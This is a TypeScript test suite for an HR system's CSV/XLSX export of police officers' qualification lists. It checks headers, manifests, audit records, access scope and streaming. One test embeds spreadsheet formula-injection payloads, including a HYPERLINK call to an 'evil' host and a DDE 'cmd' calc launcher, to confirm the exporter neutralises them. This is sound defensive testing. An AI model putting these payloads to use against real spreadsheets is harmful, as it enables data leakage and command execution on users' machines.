/** HR's list as a file: the bytes, read again as whoever gets them would. */
import type { ExportManifest, QualificationPage } from "@sworn/contract/staff"
import { readXlsx } from "hucre/xlsx"
import { createHash } from "node:crypto"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { openExamRoom, type ExamRoom, type Person } from "../../support/exam-room.ts"

let room: ExamRoom
let hr: Person
let qingxi: Person

beforeAll(async () => {
  room = await openExamRoom()
  hr = await room.as("hr")
  qingxi = await room.as("hr-qingxi")
})
afterAll(() => room.close())

const headers = {
  "zh-CN":
    "身份证号,姓名,警号,单位,执法资格类别,执法资格等级,报考时警种,考核结果,考试通过日期,考试成绩,考核通过日期,等级确认日期,证书编号,有效期至,状态,记录状态",
  en: "national_id,name,police_no,unit,qualification_category,level,category_at_exam,assessment_result,exam_pass_date,exam_score,assessment_pass_date,confirmation_date,certificate_no,valid_until,status,record_status",
}

type Query = Readonly<Record<string, string | number>>

const ask = (person: Person, query: Query) =>
  person.call(
    `/api/qualifications/export?${new URLSearchParams({ purpose: "年度核查", ...query } as Record<string, string>)}`,
  )

async function csv(person: Person, query: Query = {}) {
  const reply = await ask(person, { format: "csv", ...query })
  if (reply.status !== 200) throw new Error(`The export answered ${reply.status}: ${await reply.text()}`)
  const bytes = Buffer.from(await reply.arrayBuffer())
  return { reply, bytes, lines: bytes.toString("utf8").slice(1).trimEnd().split("\n") }
}

async function xlsx(person: Person, query: Query = {}) {
  const reply = await ask(person, { format: "xlsx", ...query })
  if (reply.status !== 200) throw new Error(`The export answered ${reply.status}: ${await reply.text()}`)
  const bytes = Buffer.from(await reply.arrayBuffer())
  const [sheet] = (await readXlsx(bytes)).sheets
  return { reply, bytes, rows: sheet?.rows ?? [] }
}

const page = async (person: Person, query: Query = {}) =>
  (await (
    await person.call(`/api/qualifications?${new URLSearchParams(query as Record<string, string>)}`)
  ).json()) as QualificationPage

const exportsMade = async () =>
  (await room.sql<[{ count: number }]>`select count(*)::int as count from exports`)[0].count

describe("the list as CSV", () => {
  it("is UTF-8 with a byte order mark, the sixteen columns, and as many rows as it says (HRX-4)", async () => {
    const { reply, bytes, lines } = await csv(hr, { status: "any" })
    const { total, asOf } = await page(hr, { status: "any" })

    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(lines[0]).toBe(headers["zh-CN"])
    expect(lines).toHaveLength(total + 1)
    expect(reply.headers.get("x-sworn-rows")).toBe(String(total))
    expect(reply.headers.get("content-type")).toBe("text/csv; charset=utf-8")
    expect(reply.headers.get("content-disposition")).toBe(
      `attachment; filename="qualification-list_${asOf}.csv"; filename*=UTF-8''${encodeURIComponent("执法资格名单")}_${asOf}.csv`,
    )
  })

  it("has English headers and words for whoever asks in English", async () => {
    const { reply, lines } = await csv(hr, { language: "en" })

    expect(lines[0]).toBe(headers.en)
    expect(lines[1]).toMatch(/,Basic,|,Advanced,/)
    expect(lines[1]).toMatch(/,valid,(current|superseded)$/)
    expect(reply.headers.get("content-disposition")).toContain('filename="qualification-list_')
  })

  it("says what the page on the screen says, row by row and in its order", async () => {
    const { rows } = await page(hr, { size: 200, status: "any" })
    const { lines } = await csv(hr, { status: "any" })

    for (const [at, row] of rows.entries()) {
      const cells = lines[at + 1]!.split(",")
      expect(cells).toHaveLength(16)
      expect(cells[0]).toBe(row.nationalId)
      expect([cells[1], cells[2], cells[3]]).toEqual([row.name, row.policeNo, row.unit])
      expect(cells[8]).toBe(row.examPassedOn)
      expect(cells[9]).toBe(row.score === null ? "" : String(row.score / 100))
      expect([cells[11], cells[12], cells[13]]).toEqual([
        row.confirmedOn ?? "",
        row.certificateNo ?? "",
        row.validUntil ?? "",
      ])
    }
  })

  it("is the same to the byte when the same pair is asked for again, whatever was recorded since (HRX-4)", async () => {
    const first = await csv(hr, { status: "any" })
    const manifest = await manifestOf(hr, first.reply)
    const [pending] = (await page(hr, { status: "pending_confirmation" })).rows
    const confirmed = await hr.call("/api/confirmations", {
      method: "POST",
      body: { certificateIds: [pending!.certificateId], confirmedOn: manifest.asOf },
    })
    expect(await confirmed.json()).toMatchObject({ outcomes: [{ outcome: "confirmed" }] })
    const again = await csv(hr, { status: "any", asOf: manifest.asOf, knownAt: manifest.knownAt })
    const today = await csv(hr, { status: "any" })

    expect(again.bytes.equals(first.bytes)).toBe(true)
    expect(today.bytes.equals(first.bytes)).toBe(false)
  })

  it("calls a row history once a later certificate of the level is confirmed, and current until then", async () => {
    const { lines } = await csv(hr, { status: "superseded", level: "basic" })
    const pending = await csv(hr, { status: "pending_confirmation" })

    expect(lines.slice(1).every((line) => line.endsWith(",已换发,历史记录"))).toBe(true)
    expect(pending.lines.slice(1).every((line) => line.endsWith(",待确认,有效记录"))).toBe(true)
  })
})

describe("cells that a spreadsheet would run", () => {
  const dangerous = [
    '=HYPERLINK("http://evil"&A1)',
    "=cmd|'/c calc'!A1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    ";=1+1",
    '","=1',
  ]

  it("get an apostrophe in CSV and are left as they are in XLSX (bad/E1, bad/E2)", async () => {
    const { lines } = await csv(hr)
    const officers = await room.sql<{ officerId: string; name: string }[]>`
      select officer_id as "officerId", name from officers where police_no = any(${lines.slice(1, 400).map((line) => line.split(",")[2]!)}::text[])
      limit ${dangerous.length}`
    for (const [at, { officerId }] of officers.entries()) {
      await room.sql`update officers set name = ${dangerous[at]!} where officer_id = ${officerId}`
    }
    try {
      const text = (await csv(hr)).bytes.toString("utf8")
      const sheet = await xlsx(hr)
      const names = sheet.rows.map((row) => row[1])
      for (const name of dangerous.slice(0, 11)) {
        const cell = `'${name.replace(/^([\t\r])=/, "$1'=")}`
        const quoted = /[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell
        expect(text.includes(`,${quoted},`), name).toBe(true)
      }
      expect(text.includes(",;'=1+1,")).toBe(true)
      expect(text.includes(',""",""=1",')).toBe(true)
      for (const name of dangerous.filter((one) => !one.includes("\r"))) expect(names).toContain(name)
      expect(await partsOf(sheet.bytes)).not.toMatch(/<f[ >]/)
    } finally {
      for (const { officerId, name } of officers) {
        await room.sql`update officers set name = ${name} where officer_id = ${officerId}`
      }
    }
  })
})

describe("cells that would break a file", () => {
  const [tooLong, controls, markup] = ["长".repeat(40_000), "a\u0001\u0008\u001fb", ']]>&<c r="A1">\'']

  it("are cut with the file still whole, or kept as they are, and the file opens (bad/E4)", async () => {
    const { lines } = await csv(hr)
    const officers = await room.sql<{ officerId: string; name: string }[]>`
      select officer_id as "officerId", name from officers
      where police_no = any(${lines.slice(1, 4).map((line) => line.split(",")[2]!)}::text[])`
    for (const [at, name] of [tooLong, controls, markup].entries())
      await room.sql`update officers set name = ${name} where officer_id = ${officers[at]!.officerId}`
    try {
      const { reply, rows } = await xlsx(hr)
      const names = rows.map((row) => String(row[1]))

      expect(reply.status).toBe(200)
      expect(rows.length).toBeGreaterThan(3)
      expect(Math.max(...names.map((name) => name.length))).toBeLessThanOrEqual(32_767)
      expect(names.some((name) => name.startsWith("长长") && name.endsWith("…"))).toBe(true)
      expect(names).toContain(markup)
      expect(names.filter((name) => /^a.*b$/s.test(name) && name.length <= 25)).not.toEqual([])
      expect((await csv(hr)).bytes.toString("utf8")).toContain(tooLong)
    } finally {
      for (const { officerId, name } of officers)
        await room.sql`update officers set name = ${name} where officer_id = ${officerId}`
    }
  })
})

describe("the list as XLSX", () => {
  it("has the same rows as the CSV, ids and numbers as text with every digit, scores as numbers (bad/E3)", async () => {
    const lines = (await csv(hr, { status: "any" })).lines.map((line) => line.split(","))
    const { reply, rows } = await xlsx(hr, { status: "any" })
    const digits = await room.sql<
      [{ count: number }]
    >`select count(*)::int as count from officers where police_no like '0%'`

    expect(reply.headers.get("content-disposition")).toContain(".xlsx")
    expect(rows).toHaveLength(lines.length)
    expect(digits[0].count).toBeGreaterThan(0)
    for (const [at, row] of rows.entries()) {
      expect(Array.from({ length: 16 }, (_, column) => String(row[column] ?? ""))).toEqual(lines[at])
      if (at === 0) continue
      expect([typeof row[0], typeof row[2], typeof row[9]]).toEqual(["string", "string", "number"])
      if (row[12] !== null) expect(row[12]).toMatch(/^\d{15}$/)
    }
  })

  it("carries an 18-digit id and a police number with leading zeros through Excel's reader unharmed (bad/E3)", async () => {
    const [officer] = (await page(hr)).rows
    await room.sql`update officer_identities set national_id_masked = '110101199003070015' where officer_id = ${officer!.officerId}`
    await room.sql`update officers set police_no = '000000000000000017' where officer_id = ${officer!.officerId}`
    const { rows } = await xlsx(hr, { search: "000000000000000017" })
    const { lines } = await csv(hr, { search: "000000000000000017" })

    expect(rows[1]?.slice(0, 3)).toEqual(["110101199003070015", officer!.name, "000000000000000017"])
    expect(lines[1]).toContain(`110101199003070015,${officer!.name},000000000000000017,`)
  })
})

describe("an export", () => {
  it("leaves a manifest with the hash of every byte, and audit events before and after (HRX-5, bad/A8)", async () => {
    const { reply, bytes } = await csv(hr, { level: "advanced", purpose: "高级人才库" })
    const manifest = await manifestOf(hr, reply)
    const audit = await room.sql<{ action: string; details: Record<string, unknown>; actor: string }[]>`
      select action, details, actor from audit_events where subject = ${manifest.exportId} order by seq`

    expect(manifest).toMatchObject({
      purpose: "高级人才库",
      format: "csv",
      filter: { level: "advanced" },
      rowCount: Number(reply.headers.get("x-sworn-rows")),
      sha256: createHash("sha256").update(bytes).digest("hex"),
    })
    expect(audit.map(({ action }) => action)).toEqual(["export-begun", "export-finished"])
    expect(audit[1]?.details).toMatchObject({
      purpose: "高级人才库",
      rowCount: manifest.rowCount,
      sha256: manifest.sha256,
      asOf: manifest.asOf,
      knownAt: manifest.knownAt,
    })
  })

  it("needs a purpose, and without one leaves nothing behind (HRX-3)", async () => {
    const before = await exportsMade()
    for (const query of ["format=csv", "format=csv&purpose=", "format=pdf&purpose=list"]) {
      expect((await hr.call(`/api/qualifications/export?${query}`)).status).toBe(400)
    }
    expect(await exportsMade()).toBe(before)
  })

  it("of a unit outside the own scope is refused, and the own one never grows (bad/E5)", async () => {
    const [{ unitId }] = await room.sql<[{ unitId: number }]>`
      select unit_id as "unitId" from units where name = '云麓市公安局'`
    const before = await exportsMade()
    expect((await ask(qingxi, { format: "csv", unit: unitId })).status).toBe(404)
    expect(await exportsMade()).toBe(before)

    const { lines } = await csv(qingxi, { status: "any" })
    const own = await room.sql<{ policeNo: string }[]>`
      select o.police_no as "policeNo" from certificates join officers o using (officer_id) join units u using (unit_id)
      where u.path like (select path || '%' from units where name = '青溪市公安局')`
    expect(
      lines
        .slice(1)
        .map((line) => line.split(",")[2])
        .toSorted(),
    ).toEqual(own.map((one) => one.policeNo).toSorted())
  })

  it("is a manifest to its maker and to whoever may see all its units, and to nobody else", async () => {
    const whole = await csv(hr)
    const city = await csv(qingxi)
    const wholeId = whole.reply.headers.get("x-sworn-export-id")
    const cityId = city.reply.headers.get("x-sworn-export-id")

    expect((await (await room.as("auditor")).call(`/api/exports/${wholeId}`)).status).toBe(200)
    expect((await hr.call(`/api/exports/${cityId}`)).status).toBe(200)
    expect((await qingxi.call(`/api/exports/${wholeId}`)).status).toBe(404)
    expect((await hr.call(`/api/exports/${crypto.randomUUID()}`)).status).toBe(404)
  })

  it("whose reader goes away ends its query, has no manifest, and is on record", async () => {
    await fill(60_000)
    const before = await exportsMade()
    const reply = await ask(hr, { format: "csv", status: "any" })
    const reader = reply.body!.getReader()
    await reader.read()
    await reader.cancel()

    await expect.poll(copying).toBe(0)
    expect(await exportsMade()).toBe(before)
    const exportId = reply.headers.get("x-sworn-export-id")
    await expect
      .poll(async () =>
        (await room.sql`select action from audit_events where subject = ${exportId} order by seq`).map(
          (row) => row["action"],
        ),
      )
      .toEqual(["export-begun", "export-stopped"])
  })

  it("asked for by its head alone is let go at once, however often", async () => {
    const query = new URLSearchParams({ purpose: "年度核查", format: "csv" })
    for (let time = 0; time < 9; time += 1) {
      const reply = await hr.call(`/api/qualifications/export?${query}`, { method: "HEAD" })
      expect(reply.status).toBe(200)
    }
    await expect.poll(connectionsOfExports).toBe(0)
  })

  it("read slowly still ends, and whole", async () => {
    const reply = await ask(hr, { format: "csv", status: "any" })
    const rowCount = Number(reply.headers.get("x-sworn-rows"))
    const pieces: Uint8Array[] = []
    for await (const piece of reply.body!) {
      pieces.push(piece)
      await new Promise((resolve) => setTimeout(resolve, 20))
    }
    const bytes = Buffer.concat(pieces)

    expect(bytes.toString("utf8").trimEnd().split("\n")).toHaveLength(rowCount + 1)
    expect(pieces.slice(0, -1).every((piece) => piece.byteLength >= 64 * 1024)).toBe(true)
    expect((await manifestOf(hr, reply)).sha256).toBe(createHash("sha256").update(bytes).digest("hex"))
    await expect.poll(connectionsOfExports).toBe(0)
  })

  it("is turned away kindly when too many are under way, and let in once one has ended", async () => {
    const open = await Promise.all(Array.from({ length: 8 }, () => ask(hr, { format: "csv", status: "any" })))
    const ninth = await ask(hr, { format: "csv" })
    expect(ninth.status).toBe(503)
    expect(await ninth.json()).toMatchObject({ refusal: "busy" })

    await Promise.all(open.map((reply) => reply.body!.cancel()))
    expect(
      (await ask(hr, { format: "csv" }).then((reply) => reply.arrayBuffer())).byteLength,
    ).toBeGreaterThan(0)
  })
})

async function manifestOf(person: Person, reply: Response): Promise<ExportManifest> {
  const manifest = await person.call(`/api/exports/${reply.headers.get("x-sworn-export-id")}`)
  if (manifest.status !== 200) throw new Error(`The manifest answered ${manifest.status}`)
  return (await manifest.json()) as ExportManifest
}

const copying = async () =>
  (
    await room.sql<[{ count: number }]>`
    select count(*)::int as count from pg_stat_activity
    where datname = current_database() and usename = 'sworn_staff' and query ilike 'copy%' and state = 'active'`
  )[0].count

/** Every export's connection begins with its process id. */
const connectionsOfExports = async () =>
  (
    await room.sql<[{ count: number }]>`
    select count(*)::int as count from pg_stat_activity
    where datname = current_database() and usename = 'sworn_staff' and (query ilike 'copy%' or state = 'idle in transaction')`
  )[0].count

/** More certificates than a socket's buffers hold, on officers there are. */
async function fill(count: number): Promise<void> {
  await room.sql`
    with made as (
      insert into certificates (certificate_id, officer_id, level, category_at_exam, unit_at_exam, exam_name, exam_passed_on,
        authority, created_at)
      select gen_random_uuid(), o.officer_id, 'basic', o.category, o.unit_id, '{}', '2015-05-05', 'test', exam_now()
      from generate_series(1, ${count}) n join (select *, row_number() over (order by officer_id) as at from officers) o
        on o.at = 1 + n % (select count(*) from officers)
      returning certificate_id
    )
    insert into certificate_events (certificate_id, position, kind, effective_on, recorded_at, recorded_by)
    select certificate_id, 1, 'created', '2015-05-05', exam_now(), 'test' from made`
}

/** Every part of a workbook as text; a formula anywhere would show. */
async function partsOf(workbook: Buffer): Promise<string> {
  const { inflateRawSync } = await import("node:zlib")
  const signature = Buffer.from("PK\u0003\u0004", "latin1")
  let text = ""
  for (let at = workbook.indexOf(signature); at >= 0; at = workbook.indexOf(signature, at + 4)) {
    const start = at + 30 + workbook.readUInt16LE(at + 26) + workbook.readUInt16LE(at + 28)
    try {
      text += inflateRawSync(workbook.subarray(start), { finishFlush: 2 }).toString("utf8")
    } catch {
      continue
    }
  }
  return text
}
